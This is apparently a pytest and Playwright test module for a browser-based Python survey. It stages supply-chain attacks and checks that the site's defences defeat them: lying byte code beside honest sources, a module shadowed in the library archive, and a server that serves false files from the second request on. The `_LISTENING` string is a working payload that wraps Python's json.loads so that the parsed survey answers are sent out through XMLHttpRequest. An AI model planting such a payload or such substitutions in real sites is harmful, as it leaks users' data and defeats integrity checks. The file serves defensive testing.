"""What is shipped to browsers, on its way from the suppliers to the person: other code than what was read."""

from __future__ import annotations

import base64
import os
import re
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from unittest import mock

import pytest
from playwright.sync_api import Browser, Page, expect

from generator.runtime import PreparationError, app, npm, store
from generator.runtime.archive import packed_zip, stored_zip
from generator.site.files import configured_site_files
from generator.site.visit import VISITORS, ask
from harness.archives import unpacked
from harness.dishonest_files import false_files
from harness.journey import READY, answer_at_once
from harness.paths import EXAMPLE, ROOT
from harness.two_faced import LEAK, always, from_the_second_on, two_faced
from questionnaire import ITEM_IDS, classify
from tests.attacks.attack import Found, attack

pytestmark = pytest.mark.browser

Files = Mapping[str, bytes]

# Two constellations tie, so that the picture is mixed: M.
SHEET = dict.fromkeys(ITEM_IDS, 0) | {"A1": 3, "B1": 3, "C2": 1}
HONEST_TYPE = classify(SHEET).type
RULES = "questionnaire/classification.py"
WORKER = "3-worker.js"


@pytest.fixture(scope="module")
def runtime() -> dict[str, bytes]:
    """Every file of the runtime."""
    return store.runtime_files()


@pytest.fixture(scope="module")
def site(runtime: dict[str, bytes]) -> dict[str, bytes]:
    """Every file of the example site."""
    return site_with(runtime)


def site_with(runtime: Files) -> dict[str, bytes]:
    """Return the example site with another ``runtime``; its page holds the hashes of these files."""
    with mock.patch.object(store, "runtime_files", return_value=dict(runtime)):
        return configured_site_files(EXAMPLE)


def with_worker(runtime: Files, *replaced: tuple[str, str]) -> dict[str, bytes]:
    """Return ``runtime`` with another worker script, in which each pair's first text is its second."""
    scripts = unpacked(runtime["worker.zip"])
    text = scripts[WORKER].decode()
    for before, after in replaced:
        assert text.count(before) == 1, before
        text = text.replace(before, after)
    return {**runtime, "worker.zip": packed_zip({**scripts, WORKER: text.encode()})}


@contextmanager
def visiting(browser: Browser, address: str) -> Iterator[Page]:
    """Open the survey in a profile of its own."""
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(address)
        yield page


def result(browser: Browser, files: Files) -> str:
    """Return the type that a visit of the site ``files`` shows for ``SHEET``."""
    with two_faced(files, {}, always) as server, visiting(browser, server.address) as page:
        take(page)
        return str(page.locator("#result").get_attribute("data-outcome"))


def take(page: Page) -> None:
    """Answer every question and wait for the result."""
    expect(page.locator("html")).to_have_attribute("data-python", "ready", timeout=READY)
    page.locator("[data-action=start]").dispatch_event("click")
    answer_at_once(page, SHEET)
    expect(page.locator("#result")).to_have_attribute("data-outcome", re.compile("."), timeout=READY)


def lying_rules() -> bytes:
    """Return the rules with which a mixed picture is none: N where M is true."""
    honest = app.collect().files[RULES].decode()
    assert honest.count('"M" if tied') == 1
    return honest.replace('"M" if tied', '"N" if tied').encode()


# Compiles a source as Python in the browser would, into byte code that asks for no source (PEP 552).
_COMPILE = """
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
const { pyodide, source, out } = JSON.parse(readFileSync(process.argv[2], "utf8"));
const { loadPyodide } = await import(pathToFileURL(join(pyodide, "pyodide.mjs")).href);
const python = await loadPyodide({ indexURL: pyodide, packages: [] });
python.globals.set("source", source);
writeFileSync(out, python.runPython(`
import base64, importlib._bootstrap_external as bootstrap
code = compile(source, "classification.py", "exec", dont_inherit=True)
base64.b64encode(bootstrap._code_to_hash_pyc(code, bytes(8), False)).decode()
`));
"""


def byte_code(source: bytes, folder: Path) -> bytes:
    """Return the byte code of ``source`` for the browser's Python; skips without the npm packages."""
    try:
        pyodide = npm.install_packages() / "pyodide"
    except PreparationError:
        pytest.skip("node is not here; the runtime came prepared")
    script = folder / "compile.mjs"
    script.write_text(_COMPILE, "utf-8")
    return base64.b64decode(npm.run_script(script, pyodide=f"{pyodide}{os.sep}", source=source.decode()))


@attack(
    family="supply chain",
    attacker="developer",
    wants="let the browser compute something else than the sources in `app.zip`, by byte code beside them",
    naive="The whole archive on Python's path: its byte code runs, and a mixed picture is shown as N.",
    product="The worker gives Python the sources and nothing else: a mixed picture is shown as M.",
)
def test_byte_code_beside_the_sources_lies(
    browser: Browser, runtime: dict[str, bytes], tmp_path: Path, found: Found
) -> None:
    """All sources are honest; only the byte code beside one of them is not."""
    false = byte_code(lying_rules(), tmp_path)
    beside = "questionnaire/__pycache__/classification.cpython-314.pyc"
    app_zip = stored_zip({**unpacked(runtime["app.zip"]), beside: false, f"{RULES}c": false})
    lying = {**runtime, "app.zip": app_zip}
    whole = with_worker(lying, ('if (path.endsWith(".py"))', "if (path)"))
    assert unpacked(lying["app.zip"])[RULES] == (ROOT / RULES).read_bytes()
    assert HONEST_TYPE == "M"
    found(f"shown as {result(browser, site_with(whole))}", f"shown as {result(browser, site_with(lying))}")


@attack(
    family="supply chain",
    attacker="developer",
    wants="let a module of the same name in the standard library's archive run in place of the app's own",
    naive="The app where packages are usually put, behind the library: a mixed picture is shown as N.",
    product="The app's folder comes first on Python's path: a mixed picture is shown as M.",
)
def test_a_module_in_the_library_shadows_the_apps(
    browser: Browser, runtime: dict[str, bytes], found: Found
) -> None:
    """The library holds another ``questionnaire``; the app's own is untouched."""
    shadow = {
        name: source for name, source in app.collect().files.items() if name.startswith("questionnaire/")
    }
    library = {**unpacked(runtime["stdlib.zip"]), **shadow, RULES: lying_rules()}
    lying = {**runtime, "stdlib.zip": packed_zip(library)}
    behind = with_worker(
        lying,
        ('const APP = "/app";', 'const APP = "/lib/python3.14/site-packages";'),
        ("PYTHONPATH: APP, ", ""),
    )
    found(f"shown as {result(browser, site_with(behind))}", f"shown as {result(browser, site_with(lying))}")


# In place of an interpreter that PyScript imports: its Python sends away whatever it reads.
_LISTENING = f"""
globalThis.tell = (read) => {{
  const request = new XMLHttpRequest();
  request.open("GET", new URL(`../{LEAK}?${{encodeURIComponent(read)}}`, import.meta.url));
  request.send();
}};
export const {{ version }} = globalThis.interpreter;
export async function loadPyodide(options) {{
  const python = await globalThis.interpreter.loadPyodide(options);
  python.runPython("import js, json; honest = json.loads");
  python.runPython("json.loads = lambda text: (js.tell(text), honest(text))[1]");
  return python;
}}
"""


def importing_interpreter(runtime: Files) -> dict[str, bytes]:
    """Return a site whose PyScript imports its interpreter by its address, as it does by itself."""
    pyscript, often = re.subn(
        r"url:(\w+),module:Promise\.resolve\(globalThis\.interpreter\)",
        r"url:\1,module:import(\1)",
        runtime["pyscript.js"].decode(),
    )
    assert often == 2
    interpreter = b"export const { version, loadPyodide } = globalThis.interpreter;"
    files = site_with({**runtime, "pyscript.js": pyscript.encode(), "interpreter.js": interpreter})
    before, after = b'runtime/worker.zip", "sync_main_only"', b'runtime/interpreter.js", "sync_main_only"'
    assert before in files["index.html"]
    return {**files, "index.html": files["index.html"].replace(before, after)}


def false_files_that_run(browser: Browser, runtime: Files, site: Files) -> int:
    """Return how many false files run on a site whose page holds the hashes of false files, or none."""
    false = false_files(site)
    archives = {name: false.get(f"runtime/{name}", contents) for name, contents in runtime.items()}
    files = {**site_with(archives), **false}
    page = re.sub(r' integrity="[^"]*"', "", files["index.html"].decode()).encode()
    with two_faced({**files, "index.html": page}, {}, always) as server:
        with visiting(browser, server.address) as opened:
            take(opened)
        return len(set(server.leaked))


def leaked_answers(leaked: list[str]) -> int:
    """Return how many of the twelve answers stand in what was sent away."""
    known = {f'"{item}":{value}' for item, value in SHEET.items()}
    return max((sum(answer in sent.replace("\\", "") for answer in known) for sent in leaked), default=0)


@attack(
    family="supply chain",
    attacker="operator",
    wants="answer whoever checks a file with the honest one, and the browser that runs it with another",
    naive="An interpreter that the browser imports by its address, as PyScript does: 12 of 12 answers leave. "
    "Where the page holds no honest hashes, 7 of 7 false scripts, styles and archives run.",
    product="Whatever runs was checked in the same answer: 0 of 12 answers leave, and 0 of 7 false scripts, "
    "styles and archives run.",
)
def test_the_second_answer_is_another(
    browser: Browser, runtime: dict[str, bytes], site: dict[str, bytes], found: Found
) -> None:
    """Each file is answered honestly once, and falsely from the second time on; nothing may be cached."""
    false = {"runtime/interpreter.js": _LISTENING.encode()}
    with two_faced(importing_interpreter(runtime), false, from_the_second_on) as server:
        ask(f"{server.address}runtime/interpreter.js", VISITORS[0])  # somebody checks it
        with visiting(browser, server.address) as page:
            take(page)
            # The result may stand there before the request with the last answers has left.
            page.wait_for_load_state("networkidle")
        naive = leaked_answers(server.leaked)
    unchecked = false_files_that_run(browser, runtime, site)
    with two_faced(site, false_files(site), from_the_second_on) as server:
        with visiting(browser, server.address) as page:
            take(page)
            assert page.locator("#result").get_attribute("data-outcome") == HONEST_TYPE
            page.goto(f"{server.address}?again")
            expect(page.locator("html")).to_have_attribute("data-python", "failed", timeout=READY)
        assert server.lied["assets/site.js"] > 1
        product = (
            f"{leaked_answers(server.leaked)} of 12 answers leave, and {len(server.leaked)} of {unchecked}"
        )
    found(f"{naive} of 12 answers leave. Where the page holds no honest hashes, {unchecked} of 7", product)
